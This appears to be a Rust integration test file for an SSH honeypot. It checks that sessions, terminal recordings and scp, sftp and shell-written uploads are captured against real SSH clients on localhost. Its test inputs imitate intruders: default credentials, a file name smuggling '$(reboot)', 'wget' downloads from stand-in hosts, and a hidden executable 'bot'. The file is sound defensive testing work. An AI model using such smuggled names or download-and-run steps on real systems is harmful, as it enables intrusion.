//! What sessions leave on disk: recordings played by the real `asciinema`, with
//! real OpenSSH and paramiko clients.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use nectar_capture::asciicast::{self, Frame, Header};
use nectar_event::{Event, Kind};
use nectar_honeypot::capture::{RecordingsConfig, UploadsConfig};
use nectar_honeypot::ssh::SshHoneypotConfig;

use super::{have, of, python_with_paramiko, start, start_with};

/// An interactive OpenSSH session (`ssh -tt`, commands on stdin) as `user`.
fn openssh_shell(addr: std::net::SocketAddr, user: &str, password: &str, input: &[u8]) -> String {
    let port = addr.port().to_string();
    let mut child = Command::new("timeout")
        .args(["30", "sshpass", "-p", password, "ssh", "-tt"])
        .args(["-o", "StrictHostKeyChecking=no"])
        .args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"])
        .args(["-o", "PubkeyAuthentication=no", "-p", &port])
        .arg(format!("{user}@127.0.0.1"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    std::thread::sleep(Duration::from_secs(2));
    stdin.write_all(input).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Takes the honeypot's data directory out of `pot`, so it outlives `finish`.
fn keep_dir(pot: &mut super::Pot) -> tempfile::TempDir {
    std::mem::replace(&mut pot.dir, tempfile::tempdir().unwrap())
}

/// An SSH honeypot storing uploads of at most `max_file_bytes`, and its data dir
/// (kept after the honeypot stops).
async fn start_with_file_limit(max_file_bytes: u64) -> (super::Pot, tempfile::TempDir) {
    let limits = UploadsConfig {
        max_file_bytes,
        ..UploadsConfig::default()
    };
    let mut pot = super::start_full(
        SshHoneypotConfig::default(),
        RecordingsConfig::default(),
        limits,
    )
    .await;
    let tmp = keep_dir(&mut pot);
    (pot, tmp)
}

/// The recording a session's close event names, read back.
fn recording_of(events: &[Event], dir: &Path) -> (PathBuf, Header, Vec<Frame>) {
    let close = of(events, Kind::SessionClose);
    let relative = close
        .iter()
        .find_map(|e| e.data["recording"].as_str())
        .unwrap_or_else(|| panic!("no data.recording on {close:?}"));
    assert!(relative.starts_with("recordings/") && relative.ends_with(".cast"));
    let path = dir.join(relative);
    let file = std::fs::File::open(&path).unwrap();
    let (header, frames) = asciicast::read(std::io::BufReader::new(file)).unwrap();
    (path, header, frames)
}

fn text_of(frames: &[Frame], code: &str) -> String {
    frames
        .iter()
        .filter(|f| f.code == code)
        .map(|f| f.data.as_str())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openssh_session_is_recorded_and_asciinema_plays_it() {
    if !have("sshpass", &["-V"])
        || !have("ssh", &["-V"])
        || !have("asciinema", &["--version"])
        || !have("script", &["-V"])
    {
        return;
    }
    let mut pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let tmp = keep_dir(&mut pot);
    let dir = tmp.path().to_owned();
    let shown = tokio::task::spawn_blocking(move || {
        openssh_shell(addr, "pi", "raspberry", b"whoami; uname -m\nexit\n")
    })
    .await
    .unwrap();
    assert!(shown.contains("pi\r\nx86_64\r\n"), "{shown}");
    let events = pot.finish().await;
    let (path, header, frames) = recording_of(&events, &dir);
    assert_eq!(header.version, 2);
    assert!(header.width > 0 && header.height > 0);
    let output = text_of(&frames, "o");
    assert!(output.contains("pi@web-7:~$ "), "{output}");
    assert!(output.contains("pi\r\nx86_64\r\n"), "{output}");
    assert!(text_of(&frames, "i").contains("whoami; uname -m"));
    assert!(frames.windows(2).all(|w| w[0].time <= w[1].time));
    // The real asciinema reads it: `cat` prints the output, `play` replays it.
    // Both insist on a terminal (/dev/tty): `script` gives them one.
    for command in ["cat", "play -i 0.01"] {
        let line = format!("asciinema {command} {}", path.display());
        let run = Command::new("timeout")
            .args(["60", "script", "-qec", &line, "/dev/null"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let shown = String::from_utf8_lossy(&run.stdout);
        assert!(run.status.success(), "{line}: {shown}");
        assert!(shown.contains("pi\r\nx86_64\r\n"), "{line}: {shown}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paramiko_terminal_size_input_and_resize_are_recorded() {
    let Some(py) = python_with_paramiko() else {
        return;
    };
    let mut pot = start(SshHoneypotConfig::default()).await;
    let port = pot.addr.port();
    let tmp = keep_dir(&mut pot);
    let dir = tmp.path().to_owned();
    let script = format!(
        r#"
import paramiko, time
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", port={port}, username="root", password="123456", look_for_keys=False, allow_agent=False, timeout=10)
ch = c.invoke_shell(term="vt220", width=132, height=43)
time.sleep(0.5)
ch.send(b"echo caf\xc3\xa9\n")
time.sleep(0.3)
ch.send(b"id\x1b[A\x08\x08whoami\n")
time.sleep(0.3)
ch.resize_pty(width=100, height=30)
time.sleep(0.3)
ch.send(b"exit\n")
time.sleep(0.5)
c.close()
"#
    );
    let out = tokio::task::spawn_blocking(move || {
        Command::new("timeout")
            .args(["30", py, "-c", &script])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let events = pot.finish().await;
    let (_, header, frames) = recording_of(&events, &dir);
    assert_eq!((header.width, header.height), (132, 43));
    assert_eq!(header.env.unwrap()["TERM"], "vt220");
    assert!(text_of(&frames, "i").contains("echo café\n"));
    assert!(text_of(&frames, "o").contains("café\r\n"));
    assert!(frames.iter().any(|f| f.code == "r" && f.data == "100x30"));
    // The close event: the terminal, and the recording's size and input hash
    // (Cowrie's `cowrie.client.size` and `cowrie.log.closed`).
    let close = of(&events, Kind::SessionClose)
        .into_iter()
        .find(|e| e.data.contains_key("recording"))
        .unwrap();
    assert_eq!(
        (&close.data["width"], &close.data["height"]),
        (&132.into(), &43.into())
    );
    assert_eq!(close.data["term"], "vt220");
    let (path, _, _) = recording_of(&events, &dir);
    assert_eq!(
        close.data["recording_bytes"],
        std::fs::metadata(&path).unwrap().len()
    );
    assert_eq!(
        close.data["recording_input_sha256"],
        sha256_hex("echo caf\u{e9}\nid\x1b[A\x08\x08whoami\nexit\n".as_bytes())
    );
    // What line editing swallowed is in the command's event, escaped.
    let edited = of(&events, Kind::SshCommand)
        .into_iter()
        .find(|e| e.data["input"] == "whoami")
        .expect("the edited line");
    assert_eq!(edited.data["raw"], "id\\x1b[A\\x08\\x08whoami");
    let plain = of(&events, Kind::SshCommand)
        .into_iter()
        .find(|e| e.data["input"] == "echo caf\u{e9}")
        .expect("the plain line");
    assert!(plain.data.get("raw").is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_recording_stops_at_its_bound_and_an_event_says_so() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let recordings = RecordingsConfig {
        max_bytes: 4096,
        ..RecordingsConfig::default()
    };
    let mut pot = start_with(SshHoneypotConfig::default(), recordings).await;
    let addr = pot.addr;
    let tmp = keep_dir(&mut pot);
    let dir = tmp.path().to_owned();
    let shown = tokio::task::spawn_blocking(move || {
        openssh_shell(
            addr,
            "pi",
            "raspberry",
            b"ls -la /usr/bin\nls -la /etc\necho still-here\nexit\n",
        )
    })
    .await
    .unwrap();
    // The session goes on past the bound; only the recording stops.
    assert!(shown.contains("still-here\r\n"), "{shown}");
    let events = pot.finish().await;
    let (path, _, _) = recording_of(&events, &dir);
    assert!(std::fs::metadata(&path).unwrap().len() <= 4096);
    let limits: Vec<_> = of(&events, Kind::SensorStatus)
        .into_iter()
        .filter(|e| e.data["limit"] == "max_recording_bytes")
        .collect();
    assert_eq!(limits.len(), 1, "{limits:?}");
}

/// `scp` (OpenSSH) with `extra` options, uploading `files` to `target` as root.
fn scp(
    addr: std::net::SocketAddr,
    extra: &[&str],
    files: &[&Path],
    target: &str,
) -> std::process::Output {
    let port = addr.port().to_string();
    Command::new("timeout")
        .args(["30", "sshpass", "-p", "123456", "scp"])
        .args(["-o", "StrictHostKeyChecking=no"])
        .args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"])
        .args(["-o", "PubkeyAuthentication=no", "-P", &port])
        .args(extra)
        .args(files)
        .arg(format!("root@127.0.0.1:{target}"))
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn sha256_hex(data: &[u8]) -> String {
    use sha2::Digest;
    nectar_capture::uploads::hex(&sha2::Sha256::digest(data))
}

/// A file of `len` bytes that no other test writes.
fn sample(dir: &Path, name: &str, len: usize, seed: u8) -> (PathBuf, Vec<u8>) {
    let data: Vec<u8> = (0..len)
        .map(|i| (i as u32).wrapping_mul(2_654_435_761).to_be_bytes()[0] ^ seed)
        .collect();
    let path = dir.join(name);
    std::fs::write(&path, &data).unwrap();
    (path, data)
}

fn uploads(events: &[Event]) -> Vec<&Event> {
    of(events, Kind::SshUpload)
}

/// Files under `uploads/` (not counting partial files).
fn stored_files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(shards) = std::fs::read_dir(dir.join("uploads")) else {
        return out;
    };
    for shard in shards.flatten() {
        if shard.file_name() == ".partial" {
            continue;
        }
        for file in std::fs::read_dir(shard.path()).unwrap().flatten() {
            out.push(file.path());
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn legacy_scp_uploads_are_stored_once_by_sha256() {
    if !have("sshpass", &["-V"]) || !have("scp", &["-h"]) {
        return;
    }
    let mut pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let tmp = keep_dir(&mut pot);
    let dir = tmp.path().to_owned();
    let local = tempfile::tempdir().unwrap();
    let (a, data) = sample(local.path(), "bot.bin", 100_000, 1);
    let (b, other) = sample(local.path(), "x86 $(reboot).sh", 1_000, 2);
    let outs = tokio::task::spawn_blocking(move || {
        [
            scp(addr, &["-O"], &[&a, &b], "/tmp"),
            // The same content again, under another name: stored once.
            scp(addr, &["-O"], &[&a], "/tmp/again.bin"),
        ]
    })
    .await
    .unwrap();
    for out in &outs {
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let events = pot.finish().await;
    let ups = uploads(&events);
    assert_eq!(ups.len(), 3, "{ups:?}");
    let by_path = |path: &str| {
        ups.iter()
            .find(|e| e.data["path"] == path)
            .unwrap_or_else(|| panic!("no upload to {path}: {ups:?}"))
    };
    let first = by_path("/tmp/bot.bin");
    assert_eq!(first.data["filename"], "bot.bin");
    assert_eq!(first.data["via"], "scp");
    assert_eq!(first.data["path"], "/tmp/bot.bin");
    assert_eq!(first.data["size"], 100_000);
    assert_eq!(first.data["sha256"], sha256_hex(&data));
    assert_eq!(first.data["stored"], true);
    assert_eq!(first.data["duplicate"], false);
    let hostile = by_path("/tmp/x86 $(reboot).sh");
    assert_eq!(hostile.data["sha256"], sha256_hex(&other));
    assert_eq!(hostile.data["filename"], "x86 $(reboot).sh");
    let again = by_path("/tmp/again.bin");
    assert_eq!(again.data["filename"], "bot.bin");
    assert_eq!(again.data["sha256"], first.data["sha256"]);
    assert_eq!(again.data["duplicate"], true);
    // Two distinct contents, two files, named by their hash, content intact.
    let files = stored_files(&dir);
    assert_eq!(files.len(), 2, "{files:?}");
    let stored = dir.join(first.data["file"].as_str().unwrap());
    assert!(stored.ends_with(sha256_hex(&data)));
    assert_eq!(std::fs::read(stored).unwrap(), data);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_over_the_size_limit_is_refused_and_logged() {
    if !have("sshpass", &["-V"]) || !have("scp", &["-h"]) {
        return;
    }
    let (pot, tmp) = start_with_file_limit(10_000).await;
    let addr = pot.addr;
    let dir = tmp.path().to_owned();
    let local = tempfile::tempdir().unwrap();
    let (big, _) = sample(local.path(), "big.bin", 50_000, 3);
    let (small, small_data) = sample(local.path(), "small.bin", 5_000, 4);
    let (legacy, modern) = tokio::task::spawn_blocking(move || {
        (
            scp(addr, &["-O"], &[&big, &small], "/tmp/"),
            scp(addr, &[], &[&big], "/tmp/"),
        )
    })
    .await
    .unwrap();
    // scp says it failed, and names the file; the small one still went through.
    assert!(!legacy.status.success());
    assert!(String::from_utf8_lossy(&legacy.stderr).contains("big.bin: File too large"));
    assert!(!modern.status.success());
    let events = pot.finish().await;
    let ups = uploads(&events);
    let refused: Vec<_> = ups.iter().filter(|e| e.data["stored"] == false).collect();
    assert_eq!(refused.len(), 2, "{ups:?}");
    for e in &refused {
        assert_eq!(e.data["filename"], "big.bin");
        assert_eq!(e.data["reason"], "max_file_bytes");
    }
    assert_eq!(refused[0].data["size"], 50_000);
    let files = stored_files(&dir);
    assert_eq!(files.len(), 1, "{files:?}");
    assert_eq!(std::fs::read(&files[0]).unwrap(), small_data);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sftp_and_modern_scp_uploads_are_stored_and_listed_afterwards() {
    if !have("sshpass", &["-V"]) || !have("scp", &["-h"]) || !have("sftp", &["-h"]) {
        return;
    }
    let mut pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let tmp = keep_dir(&mut pot);
    let dir = tmp.path().to_owned();
    let local = tempfile::tempdir().unwrap();
    let (a, a_data) = sample(local.path(), "miner", 200_000, 5);
    let (b, b_data) = sample(local.path(), "up.sh", 3_000, 6);
    let batch = local.path().join("batch");
    std::fs::write(
        &batch,
        format!(
            "put {} /tmp/up.sh\nls -l /tmp\nget /etc/hostname {}/hostname\n",
            b.display(),
            local.path().display()
        ),
    )
    .unwrap();
    let local_path = local.path().to_owned();
    let (modern, sftp) = tokio::task::spawn_blocking(move || {
        let modern = scp(addr, &[], &[&a], "/tmp/");
        let port = addr.port().to_string();
        let sftp = Command::new("timeout")
            .args(["30", "sshpass", "-p", "123456", "sftp"])
            .args(["-o", "StrictHostKeyChecking=no", "-o", "BatchMode=no"])
            .args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"])
            .args(["-o", "PubkeyAuthentication=no", "-P", &port, "-b"])
            .arg(&batch)
            .arg("root@127.0.0.1")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        (modern, sftp)
    })
    .await
    .unwrap();
    assert!(
        modern.status.success(),
        "{}",
        String::from_utf8_lossy(&modern.stderr)
    );
    let listing = String::from_utf8_lossy(&sftp.stdout);
    assert!(
        sftp.status.success(),
        "{listing} {}",
        String::from_utf8_lossy(&sftp.stderr)
    );
    // The upload is in the listing of the same session, with its size.
    let line = listing
        .lines()
        .find(|l| l.starts_with("-") && l.ends_with(" up.sh"))
        .unwrap_or_else(|| panic!("{listing}"));
    assert!(line.contains(" 3000 "), "{line}");
    assert_eq!(
        std::fs::read_to_string(local_path.join("hostname")).unwrap(),
        "web-7\n"
    );
    let events = pot.finish().await;
    let ups = uploads(&events);
    assert_eq!(ups.len(), 2, "{ups:?}");
    for (e, data, path) in [
        (&ups[0], &a_data, "/tmp/miner"),
        (&ups[1], &b_data, "/tmp/up.sh"),
    ] {
        assert_eq!(e.data["via"], "sftp");
        assert_eq!(e.data["path"], path);
        assert_eq!(e.data["sha256"], sha256_hex(data));
        assert_eq!(e.data["stored"], true);
        assert_eq!(
            std::fs::read(dir.join(e.data["file"].as_str().unwrap())).unwrap(),
            **data
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_sftp_upload_shows_in_a_shell_of_the_same_connection() {
    let Some(py) = python_with_paramiko() else {
        return;
    };
    let pot = start(SshHoneypotConfig::default()).await;
    let port = pot.addr.port();
    let script = format!(
        r#"
import paramiko, io
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", port={port}, username="root", password="123456", look_for_keys=False, allow_agent=False, timeout=10)
s = c.open_sftp()
s.mkdir("/tmp/.x")
s.putfo(io.BytesIO(b"\x7fELF" + b"\x00" * 996), "/tmp/.x/bot")
print(sorted(s.listdir("/tmp/.x")))
_, out, _ = c.exec_command("ls -l /tmp/.x; chmod +x /tmp/.x/bot && echo ok")
print(out.read().decode())
c.close()
"#
    );
    let out = tokio::task::spawn_blocking(move || {
        Command::new("timeout")
            .args(["30", py, "-c", &script])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("['bot']"), "{text}");
    assert!(
        text.contains(" 1000 ") && text.contains("bot\nok"),
        "{text}"
    );
    let events = pot.finish().await;
    assert_eq!(uploads(&events).len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_written_through_the_shell_are_uploads_too() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let mut pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let tmp = keep_dir(&mut pot);
    let dir = tmp.path().to_owned();
    let typed: &[u8] = b"echo 'wget http://x/y' > /tmp/a.sh; printf 'chmod +x y\\n' >> /tmp/a.sh\n\
cat > /tmp/b.txt\nline one\nline two\n\x04\
cat > /tmp/c.sh <<EOF\n#!/bin/sh\necho here\nEOF\n\
wget -q http://198.51.100.7/x -O /tmp/x\n\
cat /tmp/b.txt /tmp/c.sh\nexit\n";
    let shown = tokio::task::spawn_blocking(move || openssh_shell(addr, "root", "123456", typed))
        .await
        .unwrap();
    // What `cat` read from the terminal is in the files.
    assert!(
        shown.contains("line one\r\nline two\r\n#!/bin/sh\r\necho here\r\n"),
        "{shown}"
    );
    // A here-document prompts with "> ".
    assert!(shown.contains("> "), "{shown}");
    let events = pot.finish().await;
    let ups = uploads(&events);
    let written: Vec<(&str, &str)> = ups
        .iter()
        .map(|e| {
            (
                e.data["path"].as_str().unwrap(),
                e.data["sha256"].as_str().unwrap(),
            )
        })
        .collect();
    let want = [
        ("/tmp/a.sh", "wget http://x/y\nchmod +x y\n"),
        ("/tmp/b.txt", "line one\nline two\n"),
        ("/tmp/c.sh", "#!/bin/sh\necho here\n"),
    ];
    assert_eq!(written.len(), want.len(), "{ups:?}");
    for ((path, sha), (want_path, content)) in written.iter().zip(want) {
        assert_eq!(*path, want_path);
        assert_eq!(*sha, sha256_hex(content.as_bytes()), "{path}");
    }
    for e in &ups {
        assert_eq!(e.data["via"], "shell");
        let stored = std::fs::read(dir.join(e.data["file"].as_str().unwrap())).unwrap();
        assert_eq!(sha256_hex(&stored), e.data["sha256"].as_str().unwrap());
    }
}

mod exec_stdin;
